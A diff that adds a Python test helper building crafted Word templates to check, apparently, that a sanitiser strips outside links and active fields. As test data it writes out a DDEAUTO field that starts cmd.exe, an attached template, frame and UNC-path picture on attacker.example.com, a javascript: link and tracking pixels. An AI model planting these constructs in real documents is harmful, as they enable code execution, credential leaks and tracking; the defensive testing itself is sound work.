@@ -1,0 +1,139 @@
+"""Crafted Word templates: the shipped RAG template with a payload paragraph or outside links added."""
+
+from __future__ import annotations
+
+import html
+import zipfile
+from pathlib import Path
+
+from tests.conftest import ROOT
+
+SHIPPED = ROOT / "templates" / "action-plan-rag.docx"
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+REL_TYPE = R_NS + "/{}"
+
+
+def crafted_template(
+    path: Path, payload: str = "", *, replace: dict[str, bytes] | None = None
+) -> Path:
+    """Copy the shipped template to path with a paragraph holding payload (as typed in Word).
+
+    replace: whole parts to write instead of (or as well as) the template's own.
+    """
+    replace = dict(replace or {})
+    with zipfile.ZipFile(SHIPPED) as source:
+        parts = {info.filename: source.read(info) for info in source.infolist()}
+    if payload:
+        paragraph = (
+            '<w:p><w:r><w:t xml:space="preserve">'
+            + html.escape(payload, quote=False)
+            + "</w:t></w:r></w:p>"
+        )
+        document = parts["word/document.xml"].decode("utf-8")
+        parts["word/document.xml"] = document.replace("<w:body>", "<w:body>" + paragraph, 1).encode(
+            "utf-8"
+        )
+    parts.update(replace)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    return path
+
+
+def rels(*relationships: tuple[str, str, str]) -> bytes:
+    """A .rels part of (id, type name, target) relationships, all TargetMode="External"."""
+    body = "".join(
+        f'<Relationship Id="{rid}" Type="{REL_TYPE.format(kind)}" Target="{html.escape(target)}"'
+        ' TargetMode="External"/>'
+        for rid, kind, target in relationships
+    )
+    return (
+        f"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
+        f'<Relationships xmlns="{REL_NS}">{body}</Relationships>'
+    ).encode()
+
+
+def _field(instruction: str, shown: str) -> str:
+    """A paragraph holding one complex field (begin, instruction, separate, result, end)."""
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'<w:r><w:instrText xml:space="preserve">{html.escape(instruction, quote=False)}</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f"<w:r><w:t>{shown}</w:t></w:r>"
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def linked_template(path: Path) -> Path:
+    """A template whose settings, document and footer link outside the document.
+
+    - settings: an attached template on a web server (fetched when Word opens the plan);
+    - document: a hyperlink to a file share, a javascript: link, a plain https link
+      (which must be kept), a linked picture and a file:// linked object;
+    - footer: a linked picture on a UNC path and an INCLUDEPICTURE field;
+    - web settings: a frame showing a page from a web server;
+    - fields in the document: DDEAUTO (starts a program), one whose name is made by a
+      nested field, and an internal HYPERLINK to a bookmark (which must be kept).
+    """
+    with zipfile.ZipFile(SHIPPED) as source:
+        settings = source.read("word/settings.xml").decode("utf-8")
+        document = source.read("word/document.xml").decode("utf-8")
+        doc_rels = source.read("word/_rels/document.xml.rels").decode("utf-8")
+        footer = source.read("word/footer1.xml").decode("utf-8")
+        web = source.read("word/webSettings.xml").decode("utf-8")
+    frame = '<w:frameset><w:frame><w:sourceFileName r:id="rIdW1"/></w:frame></w:frameset>'
+    web = web.replace("</w:webSettings>", frame + "</w:webSettings>")
+    head, _, rest = settings.partition(">")  # the XML declaration
+    opening, _, tail = rest.partition(">")  # <w:settings ...>
+    if "xmlns:r=" not in opening:
+        opening += f' xmlns:r="{R_NS}"'
+    settings = f'{head}>{opening}><w:attachedTemplate r:id="rIdT1"/>{tail}'
+    links = (
+        '<w:p><w:hyperlink r:id="rIdX1"><w:r><w:t>share</w:t></w:r></w:hyperlink>'
+        '<w:hyperlink r:id="rIdX2"><w:r><w:t>script</w:t></w:r></w:hyperlink>'
+        '<w:hyperlink r:id="rIdX3"><w:r><w:t>council website</w:t></w:r></w:hyperlink></w:p>'
+    )
+    fields = (
+        _field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" ', "dde")
+        + _field(' HYPERLINK \\l "_Toc1" ', "contents")
+        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE "LINK" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> Excel.Sheet "x" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>built</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    document = document.replace("<w:body>", "<w:body>" + links + fields, 1)
+    footer = footer.replace(
+        "</w:ftr>",
+        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://tracker.example.com/f.png&quot; \\d ">'
+        "<w:r><w:t>logo</w:t></w:r></w:fldSimple></w:p></w:ftr>",
+    )
+    extra = "".join(
+        f'<Relationship Id="{rid}" Type="{REL_TYPE.format(kind)}" Target="{html.escape(target)}"'
+        ' TargetMode="External"/>'
+        for rid, kind, target in (
+            ("rIdX1", "hyperlink", r"\\fileserver\share\plan.docx"),
+            ("rIdX2", "hyperlink", "javascript:alert(1)"),
+            ("rIdX3", "hyperlink", "https://www.example.gov.uk/equality"),
+            ("rIdX4", "image", "http://tracker.example.com/pixel.png"),
+            ("rIdX5", "oleObject", "file:///C:/Users/Public/data.xlsx"),
+        )
+    )
+    doc_rels = doc_rels.replace("</Relationships>", extra + "</Relationships>")
+    footer_rels = rels(("rIdF1", "image", r"\\attacker.example.com\share\logo.png"))
+    settings_rels = rels(("rIdT1", "attachedTemplate", "http://attacker.example.com/normal.dotm"))
+    web_rels = rels(("rIdW1", "frame", "http://attacker.example.com/frame.htm"))
+    return crafted_template(
+        path,
+        replace={
+            "word/settings.xml": settings.encode("utf-8"),
+            "word/document.xml": document.encode("utf-8"),
+            "word/_rels/document.xml.rels": doc_rels.encode("utf-8"),
+            "word/_rels/settings.xml.rels": settings_rels,
+            "word/_rels/footer1.xml.rels": footer_rels,
+            "word/footer1.xml": footer.encode("utf-8"),
+            "word/webSettings.xml": web.encode("utf-8"),
+            "word/_rels/webSettings.xml.rels": web_rels,
+        },
+    )
